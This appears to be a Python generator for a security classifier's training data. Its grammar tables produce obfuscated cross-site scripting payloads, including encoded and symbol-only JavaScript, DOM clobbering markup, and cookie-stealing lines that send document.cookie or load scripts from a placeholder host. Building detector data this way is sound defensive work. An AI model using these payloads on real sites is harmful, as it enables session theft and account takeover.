"""Script injection without tags: tell-tale words built out of pieces, then called or opened."""

from __future__ import annotations

from base64 import b64encode
from random import Random

from securitai.train.corpora.attacks.grammar import Grammar
from securitai.train.corpora.attacks.parts import PARTS, draw
from securitai.train.corpora.attacks.xss_base import html_escape, jsfuck
from securitai.train.corpora.kinds import COOKIE, HEADER, VALUE, AttackKind
from securitai.verdict import Category

_LOWER = "abcdefghijklmnopqrstuvwxyz"
# What is built, how pieces are wrapped, what makes use of the whole (both at the place of §).
_TABLES = Grammar(
    r"""
fn = alert¦alert¦alert¦alert¦alert¦eval¦eval¦eval¦prompt¦confirm¦print¦setTimeout¦open¦Function¦execScript
code = alert(1)¦alert(1)¦alert(document.domain)¦alert(document.cookie)¦prompt(1)¦confirm(1)¦alert('xss')¦alert(location)¦eval(name)¦location=name¦alert`1`¦eval(location.hash.slice(1))¦document.write(name)¦open(document.cookie)¦import(name)¦location.href='//‹host›/'+document.cookie¦print()¦alert(origin)¦alert(‹n›)
scheme = javascript:alert(1)¦javascript:eval(name)¦javascript:alert(document.domain)¦javascript:prompt(‹n›)¦javascript:confirm(document.cookie)¦javascript:alert(‹n›)
secret = cookie¦cookie¦cookie¦cookie¦domain¦defaultView
glob = window¦window¦self¦self¦top¦this¦parent¦frames¦globalThis¦(0)¦[]['at']¦document.defaultView¦window.self¦(()=>this)()¦event.view¦{j:this}.j¦(function(){return this})()¦window['window']¦(opener||self)¦self[['top']]
arg = 1¦1¦name¦location.hash¦document.cookie¦document.domain¦origin¦‹n›¦'xss'¦/‹az›/¦0¦location¦1337¦navigator.userAgent¦'alert(1)'¦self.name
called = ‹glob›[§](‹arg›)¦‹glob›[§](‹arg›)¦‹glob›[§](‹arg›)¦‹glob›[§](‹arg›)¦‹glob›[§](‹arg›)¦‹glob›[§]`1`¦‹glob›[§].call(null,‹arg›)¦‹glob›[§].apply(0,[‹arg›])¦[‹arg›].map(‹glob›[§])¦[‹arg›].find(‹glob›[§])¦onerror=‹glob›[§];throw ‹arg›¦{onerror=‹glob›[§]}throw ‹arg›¦Reflect.get(‹glob›,§)(‹arg›)¦Reflect.apply(‹glob›[§],null,[‹arg›])¦‹glob›[§]?.(‹arg›)¦setTimeout(‹glob›[§],1)¦(0,‹glob›[§])(‹arg›)¦new ‹glob›[§](‹arg›)¦Array.from([‹arg›],‹glob›[§])¦Promise.resolve(‹arg›).then(‹glob›[§])¦Object.getOwnPropertyDescriptor(‹glob›,§).value(‹arg›)¦for(k in ‹glob›)if(k==§)self[k](‹arg›)¦with(‹glob›)this[§](‹arg›)¦Object.entries(‹glob›).find(e=>e[0]==§)[1](‹arg›)¦'‹az›'.replace(/.+/,‹glob›[§])¦[‹arg›].forEach(‹glob›[§])¦x={toString:‹glob›[§]};x+''¦‹glob›[§].bind(top,‹arg›)()¦queueMicrotask(‹glob›[§])¦void ‹glob›[§](‹arg›)¦await ‹glob›[§](‹arg›)¦‹glob›‹nl›[§]‹nl›(‹arg›)¦(x=‹glob›[§])(‹arg›)¦‹glob›[x=§](‹arg›)¦typeof~delete~‹glob›[§](‹arg›)¦‹glob›[§](‹glob›.name)
run = eval(§)¦eval(§)¦eval(§)¦eval(§)¦setTimeout(§)¦setInterval(§,1)¦Function(§)()¦new Function(§)()¦(0,eval)(§)¦[].constructor.constructor(§)()¦''.sub.constructor(§)()¦‹glob›.eval(§)¦execScript(§)¦(()=>{}).constructor(§)()¦location='javascript:'+(§)¦‹glob›['ev'+'al'](§)¦eval?.(§)¦import('data:text/javascript,'+(§))¦setTimeout`${§}`¦eval.call(‹glob›,§)¦[§].map(eval)¦Reflect.construct(Function,[§])()¦(async()=>{}).constructor(§)()¦Function.apply(0,[§])()¦(function*(){}).constructor(§)().next()¦document.write('<script>'+(§)+'</'+'script>')¦s=document.createElement('script');s.text=§;document.body.append(s)¦$.globalEval(§)¦{throw onerror=eval,'=1;'+(§)}¦(e=>e(§))(eval)¦‹glob›.setTimeout(§,‹n›)¦new Worker(URL.createObjectURL(new Blob([§])))¦Function`x${§}`()¦document.body.setExpression('‹az›',§)¦onclick=Function(§)
opened = location=§¦location=§¦location.href=§¦location.assign(§)¦open(§)¦URL=§¦location.replace(§)¦top.location=§¦‹glob›.open(§,'_self')¦window.location=§¦navigation.navigate(§)¦document.location=§¦parent.location.href=§¦‹glob›['location']=§¦with(document)location=§¦document.links[0].href=§¦document.body.appendChild(f=document.createElement('iframe')).src=§
sent = fetch('//‹host›/?'+document[§])¦new Image().src='//‹host›/?'+escape(document[§])¦location='//‹host›/'+document[§]¦navigator.sendBeacon('//‹host›',document[§])¦document.write('<img src=//‹host›/?'+document[§]+'>')¦alert(document[§])¦open('‹url›?c='+document[§])¦with(document)fetch('//‹host›/'+this[§])¦fetch(`//‹host›/${btoa(document[§])}`)¦$.get('//‹host›/',{c:document[§]})¦eval(document[§])
wrap = §¦§¦§¦§¦§¦§¦§¦§¦§¦(1?§:0)¦(0?'':§)¦(!1?0:§)¦''||§¦!0&&§¦(1,§)¦[,§][1]¦[§][0]¦({x:§}).x¦(()=>§)()¦(function(){return §})()¦`${§}`¦(void 0??§)¦new String(§)¦[]+§¦[§]¦''.concat(§)¦(x=>x)(§)¦({toString(){return §}})¦new Array+(§)¦(0||§)¦(§)¦§+''¦({a:{b:§}}).a.b¦({get x(){return §}}).x¦Object(§)¦/**/§¦[[§]]¦(null,§)¦JSON.parse(JSON.stringify(§))¦[§].toString()¦§.trim()¦(‹d1›>0?§:'')¦/*‹az›*/§
link = {¶=(1)?§:‹d1›}¦{¶=0?'':§}¦{¶=1&&§}¦(¶=§)¦{¶=[§][0]}¦¶=(‹d1›,§)¦¶=!1?‹d1›:§¦{¶=‹d1›==0?‹d1›:§}¦{¶=(1)?"":‹c›}{¶=§}¦¶=§
nest = {¶={¶:§}}¦¶={¶:§}¦¶=1?{¶:§}:‹d1›¦{¶=(0)?‹d1›:{¶:§}}¦(¶={¶:§})¦{¶=(‹d1›==0)?‹d1›:{¶:§}}¦¶ = {¶: §}¦{¶=!‹d1›?{¶:''}:{¶:§}}
plus = +¦+¦+¦ + ¦+‹nl›¦‹nl›+¦/**/+¦ +‹nl›‹sp›‹sp›
end = ;¦;¦‹nl›¦,¦;‹nl›¦ ;¦‹nl›‹nl›¦;/**/
gap = ‹e›¦‹e›¦‹nl›¦ ¦;¦;‹nl›¦,
name:
  5×‹c›
  2×‹$¦_¦$$¦__¦$_¦_$¦$$$¦___›
  ‹foo¦bar¦tmp¦res¦val¦key¦str¦fn¦cb¦out¦obj¦arr¦part¦first¦data¦payload¦func¦ok¦boo¦hey›
  ‹az›
  ‹c›‹#0-9›
  _0x‹#1000-9999›
  ‹ª¦µ¦º¦ñ¦ç¦é¦α¦β¦λ¦π¦ж¦я¦あ¦ア¦カ¦ℓ¦ℵ¦中¦ゝ¦ﾟωﾟ¦ᅠ›
""",
    PARTS,
)
_RULES = "fn code scheme secret called run opened sent wrap link nest plus end gap name"
_SINKS = (
    [("fn", "called")] * 7 + [("code", "run")] * 5 + [("scheme", "opened"), ("secret", "sent")] * 2
)
_DRAW = {rule: _TABLES.maker(rule) for rule in _RULES.split()}


def _one(rng: Random, items: tuple[str, ...] | str) -> str:
    return items[int(rng.random() * len(items))]


def _names(rng: Random, count: int) -> list[str]:
    found: list[str] = []
    while len(found) < count:
        name = _DRAW["name"](rng)
        if name not in found:
            found.append(name)
    return found


def _cut(rng: Random, text: str, most: int) -> list[str]:
    count = 2 + int(rng.random() * (most - 1))
    cuts = sorted({1 + int(rng.random() * (len(text) - 1)) for _ in range(count - 1)})
    return [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]


def _quoted(rng: Random, text: str) -> str:
    quote = _one(rng, "'''\"\"`")
    return quote + text.replace("\\", "\\\\").replace(quote, "\\" + quote) + quote


def _codes(rng: Random, text: str) -> str:
    shift = int(rng.random() * 9) + 1
    shape = ("{0}", "{0}", "{0}", "{0:#x}", "{1}+{2}")[int(rng.random() * 5)]
    return ",".join([shape.format(ord(c), ord(c) - shift, shift) for c in text])


def _escaped(rng: Random, text: str) -> str:
    shape = ("\\x{:02x}", "\\u{:04x}", "\\{:o}", "\\u{{{:x}}}")[int(rng.random() * 4)]
    share = 0.3 + rng.random() * 0.7
    out = [shape.format(ord(c)) if rng.random() < share else c for c in text]
    quote = "'\""[int(rng.random() * 2)]
    return quote + "".join(out).replace(quote, "\\" + quote) + quote


def _padded(rng: Random, text: str) -> str:
    """The word with strange letters in or around it, and the call that takes them away."""
    junk = _one(rng, "XZQ_~!#@-9 ")
    form = int(rng.random() * 5)
    if form == 0:
        return _quoted(rng, junk.join(text)) + f".split({_quoted(rng, junk)}).join('')"
    if form == 1:
        return _quoted(rng, junk.join(text)) + f".replace(/{junk}/g,'')"
    lead, tail = draw(rng, _LOWER, 1, 3), draw(rng, _LOWER, 0, 3)
    end = (len(lead) + len(text), len(text))[form == 3]
    call = ("slice", "substr", "substring")[form - 2] if form != 3 else "substr"
    return _quoted(rng, lead + text + tail) + f".{call}({len(lead)},{end})"


_FOUND = {"a": ("(![]+'')[1]", "(!1+[])[1]"), "l": ("(![]+[])[2]", "(''+!1)[2]"),
          "e": ("(!0+'')[3]", "(''+!![])[3]"), "r": ("(!![]+[])[1]", "(!0+'')[1]"),
          "t": ("(!0+[])[0]", "(''+!0).charAt(0)"), "n": ("([][0]+'')[1]", "(void 0+'')[1]"),
          "o": ("({}+[])[1]", "(''+{})[1]"), "c": ("({}+'')[5]",), "i": ("([][0]+[])[5]",),
          "m": ("'map'[0]", "(+{}+''+'m')[3]"), "v": ("'vw'.charAt(0)", "/v/.source"),
          "p": ("'xp'[1]", "/p/.source"), "s": ("(!1+'')[3]",), "f": ("(![]+[])[0]",)}  # fmt: skip


def _mined(rng: Random, text: str) -> str:
    """Each letter taken out of the names of values: true, false, undefined, object."""
    letters = [
        _one(rng, _FOUND[c]) if c in _FOUND and rng.random() < 0.8 else f"'{c}'"
        for c in text.replace("'", '"')
    ]
    return "+".join(letters)


def _encoded(rng: Random, text: str) -> str:
    form = int(rng.random() * 7)
    if form == 0:
        return f"{_one(rng, ('', 'window.', 'self.', 'top.'))}atob('{b64encode(text.encode()).decode()}')"
    if form == 1:
        call = _one(rng, ("unescape", "decodeURI", "decodeURIComponent"))
        return f"{call}('{''.join([f'%{ord(c):02x}' for c in text])}')"
    if form == 2 and text.isalpha() and text.islower():
        return f"({int(text, 36)}){_one(rng, ('.', ' .'))}toString(36)"
    if form == 3:
        return f"[{_codes(rng, text)}].map(c=>String.fromCharCode(c)).join('')"
    if form == 4:
        turned = _quoted(rng, text[::-1])
        return f"{_one(rng, (f'{turned}.split(``)', f'[...{turned}]'))}.reverse().join('')"
    return f"String.from{_one(rng, ('CharCode', 'CharCode', 'CodePoint'))}({_codes(rng, text)})"


def piece(rng: Random, text: str) -> str:
    """An expression that yields ``text``."""
    form = rng.random()
    if form < 0.6:
        inner = _quoted(rng, text)
    elif form < 0.7:
        inner = _encoded(rng, text)
    elif form < 0.78:
        inner = _escaped(rng, text)
    elif form < 0.86:
        inner = _padded(rng, text)
    elif form < 0.9:
        inner = _mined(rng, text)
    elif form < 0.95 and text.isalpha():
        inner = f"/{text}/.source"
    else:
        inner = "[" + ",".join([_quoted(rng, c) for c in text]) + "].join('')"
    return _DRAW["wrap"](rng).replace("§", inner)


def _sink(rng: Random) -> tuple[str, str]:
    """What is built, and the statement that makes use of it."""
    word, use = _SINKS[int(rng.random() * len(_SINKS))]
    return _DRAW[word](rng), _DRAW[use](rng)


def inline(rng: Random) -> str:
    """One statement whose word stands in it as a joined expression."""
    word, use = _sink(rng)
    plus = _DRAW["plus"](rng)
    pieces = [piece(rng, text) for text in _cut(rng, word, 4)]
    return use.replace("§", plus.join(pieces))


def _joined(rng: Random, names: list[str]) -> str:
    form = int(rng.random() * 7)
    if form == 0:
        return f"[{','.join(names)}].join('')"
    if form == 1:
        return "`" + "".join([f"${{{name}}}" for name in names]) + "`"
    if form == 2:
        return f"{names[0]}.concat({','.join(names[1:])})"
    if form == 3:
        return f"[{','.join(names)}].reduce((a,b)=>a+b)"
    return _DRAW["plus"](rng).join(names)


def lines(rng: Random) -> str:
    """Pieces put into variables by several statements, joined and used by the last."""
    word, use = _sink(rng)
    parts = _cut(rng, word, 4)
    names = _names(rng, len(parts) + 1)
    equals = _one(rng, ("=", "=", " = ", "= "))
    lead = _one(rng, ("", "", "", "", "var ", "let ", "const ", "this.", "self."))
    end = _DRAW["end"](rng)
    ask = "this." if lead == "this." else ""
    values = [piece(rng, part) for part in parts]

    def used(whole: str) -> str:
        return use.replace("§", whole)

    form = int(rng.random() * 9)
    if form == 0:
        made = f"[{','.join(names[:-1])}]{equals}[{','.join(values)}]"
        return f"{made};{used(_joined(rng, names[:-1]))}"
    if form == 1:
        made = ",".join([f"{n}={v}" for n, v in zip(names, values, strict=False)])
        return f"(({made})=>{used(_joined(rng, names[:-1]))})()"
    if form == 2:
        gen = ";".join([f"yield {value}" for value in values])
        end = end.replace(",", ";")
        return f"function*{names[0]}(){{{gen}}}{end}{used(f'[...{names[0]}()].join(``)')}"
    if form == 3:
        made = ",".join([f"{n}:{v}" for n, v in zip(names, values, strict=False)])
        whole = "+".join([f"{ask}{names[-1]}.{name}" for name in names[:-1]])
        return f"{lead}{names[-1]}{equals}{{{made}}}{end}{used(whole)}"
    if form == 4:
        adds = end.join([f"{names[0]}+={value}" for value in values[1:]])
        return f"{lead}{names[0]}{equals}{values[0]}{end}{adds}{end}{used(ask + names[0])}"
    made = end.join([f"{lead}{n}{equals}{v}" for n, v in zip(names, values, strict=False)])
    joined = _joined(rng, [ask + name for name in names[:-1]])
    if form == 5:
        return f"{made}{end}{used(joined)}"
    return f"{made}{end}{lead}{names[-1]}{equals}{joined}{end}{used(ask + names[-1])}"


def chain(rng: Random) -> str:
    """Nested objects and ternaries, each of which adds letters to the one before."""
    word, use = _sink(rng)
    forward = rng.random() < 0.6
    parts = _cut(rng, word, 6)
    gap = _DRAW["gap"](rng)
    out, before = [], ""
    for name, part in zip(_names(rng, len(parts)), parts if forward else parts[::-1], strict=True):
        value = _quoted(rng, part)
        if before:
            value = f"{before}+{value}" if forward else f"{value}+{before}"
        rule = "nest" if rng.random() < 0.5 else "link"
        out.append(_DRAW[rule](rng).replace("¶", name).replace("§", value))
        before = f"{name}.{name}" if rule == "nest" else name
    return gap.join(out) + (gap or _one(rng, ("", ";", "\n"))) + use.replace("§", before)


def tagged(rng: Random) -> str:
    """The word as the text of XML within the script (E4X), whose tags are noise."""
    word, use = _sink(rng)
    name, tag = _names(rng, 1)[0], draw(rng, _LOWER, 1, 2)
    noise = [draw(rng, _LOWER, 1, 2) for _ in range(4)]
    text = "".join([f"{p}<{n}>{n}</{n}>" for p, n in zip(_cut(rng, word, 4), noise, strict=False)])
    end = _one(rng, ";\n")
    return f"{name}=<{tag}>{text}</{tag}>{end}{use.replace('§', name + '.text()')}"


_MAKERS = {"inline": inline, "lines": lines, "chain": chain, "e4x": tagged, "fuck": jsfuck, "id": _DRAW["name"]}  # fmt: skip
_G = Grammar(
    r"""
js = ‹inline›¦‹inline›¦‹inline›¦‹lines›¦‹lines›¦‹lines›¦‹chain›¦‹chain›
code0 = ‹js›¦‹js›¦‹js›¦‹js›¦‹js›¦‹js›¦‹js›¦‹js›//¦‹js›;¦{‹js›}¦(()=>{‹js›})()¦!function(){‹js›}()¦try{‹js›}catch(‹id›){}¦if(‹d1›)‹inline›¦/*‹az›*/‹js›¦‹id›:‹inline›¦async function ‹x=id›(){‹inline›}‹$x›()¦do ‹inline›;while(0)
q0 = '¦"¦'¦"¦`¦\'¦\"
expr = ‹inline›¦‹inline›¦‹inline›¦‹called0›
out0 = ‹js›//¦‹js›//¦(‹expr›)//
break:
  6×‹pre›‹x=q0›;‹js›‹//¦›
  4×‹pre›‹x=q0›;‹js›;‹$x›
  4×‹pre›‹x=q0›‹-¦+¦*¦/¦%¦,¦^¦|¦||¦&&¦**¦>¦==¦??¦in¦instanceof›(‹expr›)//
  4×‹pre›‹x=q0›-(‹expr›)-‹$x›
  2×‹pre›‹x=q0›+(‹expr›)+‹$x›
  2×‹pre›‹x=q0›,‹expr›,‹$x›
  ‹pre›‹x=q0›);‹js›;(‹$x›
  ‹pre›‹x=q0›‹}¦)¦]¦})¦}}¦]}¦))›;‹out0›
  ‹pre›‹x=q0›});‹js›;({‹id›:‹$x›
  ‹pre›‹x=q0›?‹expr›:‹$x›
  ‹pre›‹x=q0›||(‹expr›)||‹$x›
  ‹pre›‹x=q0›in(‹expr›)in‹$x›
  ‹pre›‹x=q0›}‹js›{‹$x›
  ‹pre›‹x=q0›‹nl›‹js›‹nl›//
  3×‹pre›${‹expr›}
  ‹pre›‹*/¦`;›‹out0›
  ‹d1›‹;¦,¦};¦);¦];¦})›‹out0›
call = call¦call¦bind(this)¦call.call.call
each = find¦map¦some¦every¦filter¦forEach¦flatMap¦findLast¦findIndex
bad = alert¦alert¦alert¦alert¦eval¦eval¦prompt¦confirm¦\u0061lert¦al\u0065rt¦\u{65}val¦e\u0076al¦(0,alert)¦self.alert¦top.prompt¦(1&&eval)¦\u0061\u006cert
arg0 = 1¦name¦‹n›¦location.hash¦document.cookie¦document.domain¦'‹az›'¦/‹az›/.source¦origin¦document['cookie']¦self.name
called0 = [‹arg0›].‹each›(‹bad›)¦‹x=id›=‹bad›,‹$x›(‹arg0›)¦(‹x=id›=‹bad›)(‹arg0›)¦(‹x=id›=>‹$x›(‹arg0›))(‹bad›)¦Array.from([‹arg0›],‹bad›)¦'‹az›'.replace(/.+/,‹bad›)¦'‹az›'.replace(/(\w)/g,‹bad›)¦‹bad›.‹call›(0,‹arg0›)¦Reflect.apply(‹bad›,0,[‹arg0›])¦((‹x=id›,‹y=id›)=>‹$x›(‹$y›))(‹bad›,‹arg0›)
getter = ({get ‹x=id›(){‹bad›(‹arg0›)}}).‹$x›¦({set ‹x=id›(‹y=id›){‹bad›(‹$y›)}}).‹$x›=‹arg0›¦with({set ‹x=id›(‹y=id›){‹bad›(‹$y›)}})‹$x›=‹arg0›¦‹x=id›={toString:‹bad›};‹$x›+''¦‹x=id›={valueOf:‹bad›};-‹$x›¦valueOf=‹bad›;window+1¦‹x=id›={[Symbol.toPrimitive]:‹bad›};‹$x›+''¦'‹az›'instanceof{[Symbol.hasInstance]:‹bad›}¦Object.defineProperty(window,'‹x=az›',{get(){‹bad›(‹arg0›)}});‹$x›¦new Proxy({},{get:(‹x=id›,‹y=id›)=>‹bad›(‹arg0›)}).‹az›¦new Proxy(‹bad›,{})(‹arg0›)¦__defineSetter__('‹x=az›',‹bad›);‹$x›=‹arg0›¦this.__defineGetter__("‹x=az›",function(){‹bad›(‹arg0›)});‹$x›
thrown = onerror=‹bad›;throw ‹arg0›¦window.onerror=‹bad›;‹az›.‹az›¦{onerror=‹bad›}throw ‹arg0›¦throw onerror=‹bad›,‹arg0›¦{throw onerror=eval,'=‹bad›\x28‹n›\x29'}¦TypeError.prototype.name='=/',0[onerror=eval]['/-alert(‹n›)//']¦try{throw ‹bad›}catch(‹x=id›){‹$x›(‹arg0›)}
async0 = Promise.reject(‹arg0›).catch(‹bad›)¦Promise.resolve(‹arg0›).then(‹bad›)¦‹x=id›=async()=>‹bad›(await ‹arg0›);‹$x›()¦(async ‹x=id›=>‹bad›(‹arg0›))()¦await{then:‹bad›}¦(function*(){yield ‹bad›(‹arg0›)})().next()¦setTimeout(‹bad›,‹n›,‹arg0›)¦setTimeout`‹bad›\x28‹n›\x29`¦queueMicrotask(()=>‹bad›(‹arg0›))¦import(/‹az›/.source&&'//‹host›/‹az›.mjs')¦import(`data:text/javascript,‹bad›(‹n›)`)
bound = for(‹x=id› of[‹bad›])‹$x›(‹arg0›)¦[‹x=id›,‹y=id›]=[‹bad›,‹arg0›];‹$x›(‹$y›)¦{let{‹x=id›=‹bad›}={};‹$x›(‹arg0›)}¦(({alert:‹x=id›})=>‹$x›(‹arg0›))(self)¦({eval:‹x=id›}=top);‹$x›(‹arg0›)¦switch(‹x=id›=‹bad›){default:‹$x›(‹arg0›)}¦‹x=id›=(‹y=id›=‹bad›(‹arg0›))=>0;‹$x›()¦‹x=id›=/(‹az›)/,‹bad›(‹arg0›)¦JSON.parse('[‹n›]',‹bad›)¦new Map([[‹arg0›,1]]).forEach((‹x=id›,‹y=id›)=>‹bad›(‹$y›))¦[‹n›,‹d1›].sort(‹bad›)¦[‹n›,‹d1›].reduce(‹bad›)
classy = class ‹x=id›{static ‹y=id›=‹bad›(‹arg0›)}¦class ‹x=id›{static{‹bad›(‹arg0›)}}¦new class{constructor(){‹bad›(‹arg0›)}}¦class ‹x=id› extends ‹bad›(‹arg0›){}
event0 = load¦click¦hashchange¦message¦pageshow¦focus¦resize
evented = addEventListener('‹event0›',‹x=id›=>‹bad›(‹arg0›))¦on‹event0›=‹x=id›=>‹bad›(‹arg0›)¦onmessage=‹x=id›=>eval(‹$x›.data)¦onhashchange=‹x=id›=>setTimeout(‹$x›.newURL.split`#`[1])
withs = with(document)with(body)with(insertBefore(createElement('script'),firstChild))setAttribute('src','//‹host›')¦with(document){‹bad›(cookie)}¦with(location)with(hash)eval(substring(1))¦with(navigator)‹bad›(‹arg0›)¦‹x=id›=document;‹y=id›=‹$x›.createElement('script');‹$y›.src='//‹hostport›/‹az›';‹$x›.body.append(‹$y›)
sourced:
  2×eval(‹URL¦top.name¦document.URL.split('#')[1]¦location.hash.substr(1)¦localStorage.x¦document.referrer.slice(9)¦opener.name¦document.title¦history.state›)
  document.‹body.outerHTML=¦write(¦body.innerHTML=›decodeURI(location.‹hash.slice(1)¦search.split`=`[1]›)
  ‹x=id›=‹eval¦setTimeout¦Function›;‹y=id›=‹name¦location.hash.slice(1)¦document.URL›;‹$x›(‹$y›)
carried = ‹called0›¦‹getter›¦‹getter›¦‹thrown›¦‹async0›¦‹async0›¦‹bound›¦‹bound›¦‹classy›¦‹evented›¦‹withs›¦‹sourced›
xml0 = ‹e4x›¦‹e4x›¦‹e4x›¦<‹x=az›>{‹bad›(‹arg0›)}</‹$x›>¦<‹x=az› ‹az›={‹bad›(‹arg0›)}/>¦‹x=id›=<‹y=az›>{‹inline›}</‹$y›>;¦default xml namespace=‹bad›(‹arg0›)¦default xml namespace='‹az›';‹inline›¦default xml namespace=‹x=id›=‹expr›
cc0 = /*@cc_on ‹js› @*/¦//@cc_on ‹expr›¦@cc_on @set @‹x=az›=‹n› @if(@‹$x›)‹expr› @end¦/*@cc_on @if(@_jscript_version>‹d1›)‹expr›@end@*/
old0 = Iterator([‹bad›]).next()[1](‹arg0›)¦‹x=id›=Iterator([this]).next();‹$x›[1]['ale'+'rt'](‹arg0›)¦document.__parent__['ev'+'al'](‹arg0›)¦‹x=id› getter=‹bad›;‹$x›¦{‹x=id› setter=eval;‹$x›=name}¦[‹bad› for each(‹y=id› in[1])][0](‹arg0›)¦[‹x=id›(‹arg0›)for(‹$x› of[‹bad›])]¦function ‹x=id›()‹bad›(‹arg0›);‹$x›()¦let(‹x=id›=‹bad›)‹$x›(‹arg0›)¦#1=[‹bad›][0](‹arg0›)¦execScript('MsgBox ‹n›','vbs')¦execScript("‹bad›(‹n›)","JScript.Encode")¦showModalDialog('//‹hostport›/'+document.cookie)¦this.style.setExpression('‹az›','‹bad›(‹n›)')
relic:
  8×‹xml0›
  4×‹cc0›
  12×‹old0›
  3×‹1?¦0||¦~¦-¦!›typeof‹~delete~¦ void ¦ delete ¦(~¦ + ›‹bad›(‹arg0›)
  2×document.body.style.setExpression("‹width¦zoom¦x›",‹inline›)
  2×(1)['__proto__']['__parent__']['‹alert¦eval›'](‹arg0›)
  Components.lookupMethod(self,'‹al'+'ert¦alert¦eval›')(‹arg0›)
  3×‹x=id›=/‹e¦al›/.source‹nl›‹y=id›=/‹val¦ert›/.source‹nl›self[‹$x›+‹$y›](‹arg0›)
  3×‹x=id›=/‹az›‹eva¦val›/i[-1]‹nl›‹y=id›=/‹nam¦lo›/i[-1]‹nl›(0)[‹$x›+'l'](‹$y›+'e')
  /‹az›(al)/.exec('‹az›al');self[RegExp.$1+'ert'](‹n›)
sid = $¦_¦__¦$$¦$_¦_$¦___¦$$$¦あ¦ゐ¦ﾟ¦ª¦º¦ㅤ¦ᅠ¦À¦Á¦ℌ¦𐊀¦ꙩ¦ヽ¦ゝ
sym = ‹e›¦,$__:++$,$_$:++$,$__$:({}+"")[$]¦,$$$_:(!""+"")[$],$__:++$¦,$$__:({}+"")[$],$$_:++$,$$$:++$,$___:++$
face = (ﾟДﾟ)[ﾟεﾟ]+¦(ﾟｰﾟ)+(ﾟΘﾟ)+¦(o^_^o)+((ﾟｰﾟ)+(ﾟΘﾟ))+¦(ﾟДﾟ)[ﾟoﾟ]+¦(c^_^o)+
symbols:
  2×$=~[];$={___:++$,$$$$:(![]+"")[$],__$:++$,$_$_:(![]+"")[$],_$_:++$,$_$$:({}+"")[$],$$_$:($[$]+"")[$]‹sym›};$.$_=($.$_=$+"")[$.$_$]+($._$=$.$_[$.__$])+($.$$=($.$+"")[$.__$])
  2×‹x=sid›=~[];‹y=sid›={‹z=sid›:++‹$x›,‹sid›:(![]+"")[‹$x›]‹sym›};‹$y›.‹$z›=‹$y›.‹$z›+(!""+"")[‹$x›];‹$y›[‹fuck›](‹fuck›)()
  2×[]["‹filter¦find¦map¦sort¦flat¦at›"]["constructor"](‹fuck›)()
  2×[][(![]+[])[+[]]+‹fuck›][‹fuck›](‹fuck›)()
  2×‹x=sid›=''‹nl›‹y=sid›=!‹$x›+‹$x›‹nl›‹z=sid›=!‹$y›+‹$x›,‹w=sid›=‹$x›+{}‹nl›‹$y›[‹sid›=‹$w›[‹v=sid›='‹d1›']+‹$y›[1]](‹$z›[1]+‹$z›[2]+‹$y›[3]+‹$y›[1]+‹$y›[0])
  (‹x=sid›=(‹y=sid›=[][(‹z=sid›=!''+'')[‹d1›]+‹$z›[3]+‹$z›[1]])())[(![]+'')[1]+(![]+'')[2]+‹$z›[3]+‹$z›[1]+‹$z›[0]](‹n›)
  ﾟωﾟﾉ=/｀ｍ´）ﾉ~┻━┻/['_'];o=(ﾟｰﾟ)=_=‹#3-5›;c=(ﾟΘﾟ)=(ﾟｰﾟ)-(ﾟｰﾟ);(ﾟДﾟ)=(ﾟΘﾟ)=(o^_^o)/(o^_^o);‹face›‹face›(ﾟДﾟ)['_'](‹face›'_')
  4×‹x=sid›=‹bad›,‹$x›(‹arg0›)
  2×‹x=sid›=document,‹y=sid›=‹$x›.URL,‹z=sid›=unescape,‹w=sid›=eval,‹$w›(‹$z›(‹$y›))
  2×‹x=sid›='‹al¦a›',‹y=sid›='‹ert¦lert›',top[‹$x›+‹$y›](‹arg0›)
glob0 = defaultAvatar¦config¦CONFIG¦settings¦loader¦currentScript¦CDN¦appConfig¦options¦baseURL¦webpackConfig¦env¦someObject¦x¦test1¦userData¦__INITIAL__¦MathJax¦params
prop0 = url¦src¦avatar¦scriptUrl¦host¦href¦value¦y¦cdn¦path¦base¦html¦callback¦endpoint¦test2¦template
bad0 = javascript:‹bad›(‹arg0›)¦data:,‹bad›(‹n›)//¦cid:&quot;onerror=‹bad›(‹n›)//¦controlled:‹bad›(‹n›)
clobber:
  2×<‹a¦area› id=‹x=glob0›><a id=‹$x› name=‹prop0› href="‹bad0›">
  <form id=‹x=glob0›><‹input¦output¦button› id=‹prop0› name=‹prop0› value="‹bad0›">
  <iframe name=‹glob0› srcdoc="<iframe srcdoc='<a id=‹prop0› href=‹bad0›></a>' name=‹prop0›>"></iframe>
  <form ‹tabindex=1 ¦›onclick=‹bad›(‹arg0›)><input name=‹attributes¦parentNode¦nodeName¦childNodes¦innerHTML¦removeAttribute›>
  <a id="‹x=glob0›"></a><a id="‹$x›" name="‹prop0›" href="‹cid:&quot;¦javascript:¦data:,›‹bad›(‹n›)//">
  <base id=‹glob0› href=a:‹bad›(‹n›)//>
""",
    PARTS,
    _MAKERS,
)
_ALL = (VALUE, COOKIE, HEADER)
KINDS = tuple(
    AttackKind(f"xss.{name}", Category.XSS, _G.maker(rule, html_escape), weight, places)
    for name, rule, weight, places in (
        ("built", "code0", 1.5, _ALL),
        ("built_break", "break", 1.2, _ALL),
        ("carried", "carried", 0.9, (VALUE,)),
        ("relic", "relic", 0.6, (VALUE,)),
        ("symbols", "symbols", 0.4, (VALUE,)),
        ("clobber", "clobber", 0.3, (VALUE,)),
    )
)
